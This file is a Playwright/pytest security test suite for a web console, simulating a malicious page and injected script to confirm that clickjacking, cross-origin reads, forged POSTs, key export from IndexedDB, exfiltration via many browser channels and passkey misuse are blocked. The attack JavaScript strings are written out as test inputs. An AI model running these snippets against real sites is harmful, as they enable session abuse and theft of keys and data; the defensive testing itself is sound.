"""An evil page in the same browser as a console where somebody is signed in: at another site, or at another port of the
console's own host, for which cookies and passkeys are the same. And a script that got into the console itself.

Scripts changed, added or made of text: tests/operator/console/test_integrity.py. Passkeys at another host:
test_shift.py there. Each field of an assertion, crossOrigin among them: tests/tillsyn/test_passkey.py.
"""

import asyncio
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from hashlib import sha256

import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Page

from operator_service.rows import Search
from tests.operator.console.conftest import WAIT_MS, Build, Screen, build, chromium, screen, world
from tests.operator.console.test_shift import authenticator, kept, register, root_says
from tests.operator.peers import World, eventually
from tillsyn import wire
from tillsyn.chain import Trust, signer
from tillsyn.errors import Refusal, Refused
from tillsyn.identity import SigningKey, digest
from tillsyn.model import Role
from tillsyn.strict import b64u_encode

__all__ = ["build", "chromium", "screen", "world"]
pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(90)]

OTHER_SITE, OTHER_PORT = "127.0.0.1", "localhost"
"""Where the evil page is. A browser sends the console's cookies to its host whatever the port."""


@dataclass
class Evil:
    """Its server, at one port of both hosts."""

    port: int
    asked: list[str] = field(default_factory=list)
    """What has been asked of it: all that could carry something out."""

    def origin(self, host: str) -> str:
        """Of its page."""
        return f"http://{host}:{self.port}"


@pytest_asyncio.fixture(loop_scope="module")
async def evil() -> AsyncIterator[Evil]:
    """A page that says nothing by itself; the tests speak in it."""
    found = Evil(0)

    async def answer(request: web.Request) -> web.Response:
        found.asked.append(request.path_qs)
        headers = {"Access-Control-Allow-Origin": "*"}
        return web.Response(text="<!doctype html><title>evil</title>", content_type="text/html", headers=headers)

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    found.port = int(runner.addresses[0][1])
    yield found
    await runner.cleanup()


async def beside(screen: Screen, evil: Evil, host: str) -> Page:
    """The evil page in another tab of the browser in which somebody is signed in."""
    page = await screen.page.context.new_page()
    await page.goto(evil.origin(host))
    return page


async def told(world: World) -> list[str]:
    """What the service has written down."""
    return [one.event for one in await world.store.entries(Search(limit=200))]


@pytest.mark.parametrize("host", [OTHER_SITE, OTHER_PORT])
async def test_framed_console_shows_nothing_and_no_click_gets_through(
    screen: Screen, build: Build, evil: Evil, host: str
) -> None:
    """Clickjacking: the console under something that people like to click."""
    home = await build()
    await screen.ready()
    await screen.prepared()
    page = await beside(screen, evil, host)
    await page.evaluate(
        "(url) => new Promise((done) => { const frame = document.createElement('iframe'); frame.src = url;"
        " frame.style = 'position:fixed;inset:0;width:100vw;height:100vh;opacity:.1';"
        " frame.onload = done; document.body.append(frame); })",
        screen.world.url,
    )
    (frame,) = page.main_frame.child_frames
    await eventually(lambda: frame.url != "")  # the test hears of it a moment later
    assert frame.url == "chrome-error://chromewebdata/"
    size = page.viewport_size
    assert size is not None
    screen.posted.clear()
    for across in (1, 2, 3):
        await page.mouse.click(size["width"] * across / 4, size["height"] / 2)
    await page.keyboard.press("Enter")
    assert screen.posted == []
    assert not any(isinstance(one, wire.Look) for one in home.script.heard)


PATHS = ("/api/me", "/api/queue", "/api/log", "/api/visits", "/api/trust", "/api/night", "/api/people", "/health")
READ = (
    "async ([url, paths]) => { const read = []; for (const path of paths) for (const mode of ['cors', 'no-cors'])"
    " await fetch(url + path, {credentials: 'include', mode}).then(async (answer) => {"
    " if ((await answer.text()) !== '') read.push(path); }).catch(() => {}); return read; }"
)
# What needs no leave of the service to be sent: simple requests (Fetch Standard), and a form.
ACT = (
    "async ([url, row]) => { const bodies = {'/api/queue/claim': row, '/api/queue/release': row,"
    " '/api/queue/visit': row, '/api/logout': {}, '/api/browser': {key: 'A'.repeat(43)}};"
    " for (const [path, body] of Object.entries(bodies)) for (const type of ['text/plain', 'application/json'])"
    " await fetch(url + path, {method: 'POST', credentials: 'include', headers: {'Content-Type': type},"
    " mode: type === 'text/plain' ? 'no-cors' : 'cors', body: JSON.stringify(body)}).catch(() => {});"
    " navigator.sendBeacon(url + '/api/logout', new Blob(['{}'], {type: 'text/plain'}));"
    " const target = document.createElement('iframe'); target.name = 'sink'; document.body.append(target);"
    " const form = Object.assign(document.createElement('form'), {method: 'POST', action: url + '/api/logout',"
    " enctype: 'text/plain', target: 'sink'}); document.body.append(form); form.submit();"
    " await new Promise((done) => { target.onload = done; setTimeout(done, 2000); }); }"
)


@pytest.mark.parametrize("host", [OTHER_SITE, OTHER_PORT])
async def test_foreign_page_reads_and_does_nothing_with_the_cookie(
    screen: Screen, build: Build, evil: Evil, host: str
) -> None:
    home = await build()
    await screen.ready()
    await screen.prepared()
    world = screen.world
    assert set(await screen.page.evaluate(READ, [world.url, PATHS])) >= {"/api/me", "/api/queue"}
    before = await told(world)
    page = await beside(screen, evil, host)
    assert await page.evaluate(READ, [world.url, PATHS]) == []
    await page.evaluate(ACT, [world.url, {"hub": home.hub, "occurrence": home.occurrence}])
    assert await told(world) == before
    assert await screen.page.evaluate("fetch('/api/me').then((answer) => answer.status)") == 200


@pytest.mark.parametrize("host", [OTHER_SITE, OTHER_PORT])
async def test_foreign_page_does_not_listen(screen: Screen, build: Build, evil: Evil, host: str) -> None:
    await build()
    await screen.ready()
    listen = (
        "(url) => new Promise((done) => { const socket = new WebSocket(url.replace('http', 'ws') + '/api/live');"
        " socket.onmessage = () => done('heard'); socket.onerror = () => done('refused'); })"
    )
    assert await screen.page.evaluate(listen, screen.world.url) == "heard"
    page = await beside(screen, evil, host)
    assert await page.evaluate(listen, screen.world.url) == "refused"


@pytest.mark.parametrize("host", [OTHER_SITE, OTHER_PORT])
async def test_console_that_an_evil_page_opens_is_out_of_its_hands(
    screen: Screen, evil: Evil, world: World, host: str
) -> None:
    page = await beside(screen, evil, host)
    async with page.context.expect_page() as opening:
        await page.evaluate("(url) => { window.taken = window.open(url, 'taken'); }", world.url)
    console = await opening.value
    await console.get_by_label("Användarnamn").wait_for(timeout=WAIT_MS)
    assert await console.evaluate("window.opener") is None
    assert await console.evaluate("window.name") == ""
    assert await page.evaluate("window.taken.closed") is True  # as far as that page can tell
    await page.evaluate("window.taken.postMessage({type: 'signed'}, '*'); window.taken.location = '/elsewhere'")
    # A page of its own that is sent elsewhere comes there; by then the console would have gone, too.
    async with page.context.expect_page() as opening:
        await page.evaluate("() => { window.own = window.open('about:blank'); window.own.location = '/elsewhere'; }")
    await (await opening.value).wait_for_url("**/elsewhere")
    assert console.url == world.url + "/"


async def test_messages_are_heard_by_nobody(screen: Screen, build: Build) -> None:
    """The console has no ear for other windows at all."""
    await screen.page.add_init_script(
        "window.ears = []; const add = EventTarget.prototype.addEventListener;"
        " EventTarget.prototype.addEventListener = function (kind, ...rest) {"
        " if (kind === 'message' && (this === window || this instanceof BroadcastChannel)) window.ears.push(kind);"
        " return add.call(this, kind, ...rest); };"
    )
    await build()
    await screen.ready()
    await screen.prepared()
    assert await screen.page.evaluate("[window.ears, window.onmessage]") == [[], None]
    await screen.page.evaluate("window.addEventListener('message', () => {})")  # one would have been noticed
    assert await screen.page.evaluate("window.ears") == ["message"]


# ---- a script in the console itself ---------------------------------------------------------------------------------

TAKE = (
    "async () => { const open = () => new Promise((done, fail) => { const asked = indexedDB.open('trygghetskamera', 1);"
    " asked.onsuccess = () => done(asked.result); asked.onerror = fail; });"
    " const store = (await open()).transaction('kept').objectStore('kept');"
    " const all = await new Promise((done) => { store.getAll().onsuccess = (event) => done(event.target.result); });"
    " const keys = []; const find = (one) => { if (one instanceof CryptoKey) keys.push(one);"
    " else if (one && typeof one === 'object') Object.values(one).forEach(find); }; all.forEach(find);"
    " const secret = keys.filter((one) => one.type !== 'public'); const taken = [];"
    " const wrap = await crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, true, ['wrapKey']);"
    " for (const key of secret) for (const format of ['pkcs8', 'jwk', 'raw']) {"
    " await crypto.subtle.exportKey(format, key).then((out) => taken.push(out), () => {});"
    " await crypto.subtle.wrapKey(format, key, wrap, {name: 'AES-GCM', iv: new Uint8Array(12)})"
    ".then((out) => taken.push(out), () => {}); }"
    " return [secret.length, secret.some((one) => one.extractable), taken.length]; }"
)


async def test_browser_key_is_not_taken_out(screen: Screen) -> None:
    await screen.ready()
    assert await screen.page.evaluate(TAKE) == [1, False, 0]


async def test_key_of_the_shift_is_not_taken_out(screen: Screen, world: World, evil: Evil) -> None:
    await root_says(world)
    await authenticator(screen.page)
    await register(screen, "anna", Role.OPERATOR)
    await screen.page.get_by_role("button", name="Börja passet").click()
    await screen.sees("Tillsyn i natt")
    assert "shift" in await kept(screen.page)
    assert await screen.page.evaluate(TAKE) == [1, False, 0]
    held = "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])"
    assert "key" not in await screen.page.evaluate(held)
    # What a browser keeps for one port it shows to no other.
    page = await beside(screen, evil, OTHER_PORT)
    assert await page.evaluate("indexedDB.databases()") == []


CARRY_OUT = {
    "fetch": "fetch(evil, {mode: 'no-cors'})",
    "picture": "Object.assign(new Image(), {src: evil})",
    "beacon": "navigator.sendBeacon(evil, 'x')",
    "socket": "new WebSocket(evil.replace('http', 'ws'))",
    "events": "new EventSource(evil)",
    "form": "(() => { const form = Object.assign(document.createElement('form'), {action: evil, method: 'POST'});"
    " document.body.append(form); form.submit(); })()",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: evil}))",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: evil}))",
    "video": "Object.assign(document.createElement('video'), {src: evil}).load()",
    "style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: evil}))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: evil}))",
    "font": "new FontFace('x', `url(${evil})`).load()",
    "import": "import(evil)",
}


@pytest.mark.parametrize("way", CARRY_OUT)
async def test_script_in_the_console_carries_nothing_out(screen: Screen, evil: Evil, way: str) -> None:
    """By any way but to leave the page: to go elsewhere is not hindered, and shows."""
    run = f"async (evil) => {{ try {{ await ({CARRY_OUT[way]}); }} catch {{}} }}"
    out = evil.origin(OTHER_PORT) + "/out"
    free = await beside(screen, evil, OTHER_SITE)  # where nothing hinders it, this way is one
    await asyncio.wait_for(free.evaluate(run, out), 10)
    await eventually(lambda: "/out" in evil.asked)
    await free.close()
    evil.asked.clear()
    await screen.page.goto(screen.world.url)
    await screen.page.get_by_label("Användarnamn").wait_for(timeout=WAIT_MS)
    stopped = "new Promise((done) => document.addEventListener('securitypolicyviolation', done, {once: true}))"
    await screen.page.evaluate(f"() => {{ window.stopped = {stopped}; }}")
    await asyncio.wait_for(screen.page.evaluate(run, out), 10)
    await asyncio.wait_for(screen.page.evaluate("async () => { await window.stopped; }"), 10)
    assert evil.asked == []
    screen.faults.clear()  # the browser says what it stopped


STAY = {
    "service worker": "navigator.serviceWorker.register('/app.js')",
    "worker": "new Promise((done, fail) => { const one = new Worker('/app.js'); one.onerror = fail;"
    " setTimeout(done, 1500); })",
    "import map": "(() => { const map = document.createElement('script'); map.type = 'importmap';"
    " map.textContent = JSON.stringify({imports: {'/jws.js': '/evil.js'}}); document.head.append(map); })()",
    "base": "(() => { document.head.append(Object.assign(document.createElement('base'), {href: 'http://127.0.0.1:9/'}));"
    " if (document.baseURI === location.origin + '/') throw new Error('refused'); })()",
    "written page": "document.write('<script src=/app.js></' + 'script>')",
}


@pytest.mark.parametrize("way", STAY)
async def test_script_in_the_console_makes_itself_at_home_by_no(screen: Screen, way: str) -> None:
    await screen.page.goto(screen.world.url)
    await screen.page.get_by_label("Användarnamn").wait_for(timeout=WAIT_MS)
    refused = await screen.page.evaluate(
        f"async () => {{ try {{ await ({STAY[way]}); return 'done'; }} catch {{ return 'refused'; }} }}"
    )
    assert refused == "refused"
    screen.faults.clear()


# ---- passkeys -------------------------------------------------------------------------------------------------------

ASSERT = (
    "async ([id, challenge]) => { const bytes = (text) => Uint8Array.from(atob(text.replaceAll('-', '+')"
    ".replaceAll('_', '/')), (one) => one.charCodeAt(0));"
    " const text = (raw) => btoa(String.fromCharCode(...new Uint8Array(raw))).replaceAll('+', '-').replaceAll('/', '_')"
    ".replaceAll('=', '');"
    " const found = await navigator.credentials.get({publicKey: {challenge: bytes(challenge), rpId: 'localhost',"
    " userVerification: 'VERIFY', allowCredentials: [{type: 'public-key', id: bytes(id)}]}});"
    " const {authenticatorData, clientDataJSON, signature} = found.response;"
    " return [authenticatorData, clientDataJSON, signature].map(text); }"
)


async def asserted(page: Page, world: World, key: SigningKey, verify: str = "required") -> tuple[str, ...]:
    """A chain whose shift the passkey on this page has really signed."""
    (row,) = await world.store.passkeys("anna")
    (credential,) = row.chain
    now = int(time.time())
    said = wire.Delegation(digest(credential), key.public.x, now, now + 3600).payload()
    challenge = b64u_encode(sha256(said).digest())
    parts = await page.evaluate(ASSERT.replace("VERIFY", verify), [row.id, challenge])
    return (credential, ".".join(("tk-delegation", b64u_encode(said), *parts)))


async def test_assertion_made_on_an_evil_page_certifies_no_shift(screen: Screen, world: World, evil: Evil) -> None:
    """At another port the passkey itself signs, as it is for the host: what the browser says of the origin decides."""
    await root_says(world)
    page, key, now = screen.page, SigningKey.generate(), int(time.time())
    await authenticator(page)
    await register(screen, "anna", Role.OPERATOR)
    right = await asserted(page, world, key)
    assert signer(world.root.public, Trust(), right, now + 1).key == key.public
    await page.goto(evil.origin(OTHER_PORT))
    with pytest.raises(Refused) as refused:
        signer(world.root.public, Trust(), await asserted(page, world, key), now + 1)
    assert refused.value.code is Refusal.BAD_SIGNATURE


async def test_assertion_without_the_person_certifies_no_shift(screen: Screen, world: World) -> None:
    """Somebody else holds the unlocked phone: present, and not verified."""
    await root_says(world)
    page, key, now = screen.page, SigningKey.generate(), int(time.time())
    session = await page.context.new_cdp_session(page)
    await session.send("WebAuthn.enable")
    options = {
        "protocol": "ctap2", "transport": "internal", "hasResidentKey": True, "hasUserVerification": True,
        "isUserVerified": True, "automaticPresenceSimulation": True,
    }  # fmt: skip
    made = await session.send("WebAuthn.addVirtualAuthenticator", {"options": options})
    await register(screen, "anna", Role.OPERATOR)
    told = {"authenticatorId": made["authenticatorId"], "isUserVerified": False}
    await session.send("WebAuthn.setUserVerified", told)
    with pytest.raises(Refused) as refused:
        signer(world.root.public, Trust(), await asserted(page, world, key, "discouraged"), now + 1)
    assert refused.value.code is Refusal.BAD_SIGNATURE
    await page.get_by_role("button", name="Börja passet").click()
    await page.locator(".notice.bad").first.wait_for()
    assert "shift" not in await kept(page)
